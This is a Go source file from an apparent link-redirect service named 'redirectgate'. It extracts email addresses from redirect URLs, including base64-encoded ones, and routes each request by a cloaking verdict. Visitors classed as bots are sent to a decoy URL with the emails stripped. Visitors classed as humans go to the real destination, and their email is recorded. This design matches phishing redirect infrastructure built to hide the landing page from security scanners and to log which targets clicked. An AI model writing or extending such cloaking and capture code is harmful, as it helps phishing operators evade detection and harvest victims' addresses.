// Package rewrite implements the URL rewriter: splitting a redirect id
// from its suffix, finding embedded emails, and joining the suffix to
// the chosen destination URL according to the cloaking verdict.
package rewrite

import (
	"encoding/base64"
	"net/url"
	"regexp"
	"strings"

	"github.com/ignite/redirectgate/internal/domain"
)

var idSplitRE = regexp.MustCompile(`[$*]`)

// SplitID extracts the redirect id from the first path segment after
// /r/, splitting on the first $ or * separator. Everything from that
// separator onward (inclusive) is returned as the raw suffix.
func SplitID(idAndSuffix string) (id, rawSuffix string) {
	loc := idSplitRE.FindStringIndex(idAndSuffix)
	if loc == nil {
		if i := strings.IndexAny(idAndSuffix, "?#"); i >= 0 {
			return idAndSuffix[:i], idAndSuffix[i:]
		}
		return idAndSuffix, ""
	}
	return idAndSuffix[:loc[0]], idAndSuffix[loc[0]:]
}

var emailRE = regexp.MustCompile(`[A-Za-z0-9._-]+@[A-Za-z0-9._-]+\.[A-Za-z0-9_-]+`)

// tokenAfterSeparatorRE finds candidate tokens following $, *, ?, &, #
// that are long enough to plausibly be base64-encoded emails.
var tokenAfterSeparatorRE = regexp.MustCompile(`[$*?&#]([A-Za-z0-9+/=_-]{20,})`)

// ExtractEmails finds every distinct email address in suffix, tolerating
// one level of URL decoding and optional base64 decoding of long tokens
// found immediately after a separator character.
func ExtractEmails(suffix string) []string {
	decoded := suffix
	if unescaped, err := url.QueryUnescape(suffix); err == nil {
		decoded = unescaped
	}

	seen := make(map[string]bool)
	var out []string

	add := func(email string) {
		email = strings.ToLower(email)
		if !seen[email] {
			seen[email] = true
			out = append(out, email)
		}
	}

	for _, m := range emailRE.FindAllString(decoded, -1) {
		add(m)
	}

	for _, m := range tokenAfterSeparatorRE.FindAllStringSubmatch(decoded, -1) {
		token := m[1]
		if b, err := base64.StdEncoding.DecodeString(token); err == nil {
			for _, e := range emailRE.FindAllString(string(b), -1) {
				add(e)
			}
			continue
		}
		if b, err := base64.URLEncoding.DecodeString(token); err == nil {
			for _, e := range emailRE.FindAllString(string(b), -1) {
				add(e)
			}
		}
	}

	return out
}

// StripEmails removes every email occurrence from suffix and cleans up
// the artifacts left behind: collapsed double ampersands, stray leading
// "?&", and empty query key fragments.
func StripEmails(suffix string) string {
	out := emailRE.ReplaceAllString(suffix, "")

	out = regexp.MustCompile(`&&+`).ReplaceAllString(out, "&")
	out = regexp.MustCompile(`[A-Za-z0-9_-]+=&`).ReplaceAllString(out, "&")
	out = regexp.MustCompile(`[A-Za-z0-9_-]+=$`).ReplaceAllString(out, "")
	out = regexp.MustCompile(`\?&`).ReplaceAllString(out, "?")
	out = strings.TrimSuffix(out, "&")
	out = strings.TrimSuffix(out, "?")

	return out
}

// Rewrite produces the final output suffix and destination URL for a
// single request, along with the captured email (HUMAN outcomes only,
// per the rule that captured emails are never recorded for bots).
func Rewrite(rawSuffix string, verdict domain.Classification, humanURL, botURL string) (destination string, capturedEmail string) {
	emails := ExtractEmails(rawSuffix)

	outSuffix := rawSuffix
	destURL := humanURL
	if verdict == domain.ClassificationBot {
		outSuffix = StripEmails(rawSuffix)
		destURL = botURL
	} else if len(emails) > 0 {
		capturedEmail = emails[0]
	}

	return join(destURL, outSuffix), capturedEmail
}

// join appends outSuffix to destURL according to the suffix's leading
// character.
func join(destURL, suffix string) string {
	if suffix == "" {
		return destURL
	}

	switch suffix[0] {
	case '?':
		if strings.Contains(destURL, "?") {
			return destURL + "&" + suffix[1:]
		}
		return destURL + suffix
	case '#':
		if i := strings.Index(destURL, "#"); i >= 0 {
			destURL = destURL[:i]
		}
		return destURL + suffix
	default:
		// $..., *..., or any other unknown form: ensure a trailing
		// slash so an "@" in the suffix is never parsed as userinfo.
		if !strings.HasSuffix(destURL, "/") {
			destURL += "/"
		}
		return destURL + suffix
	}
}
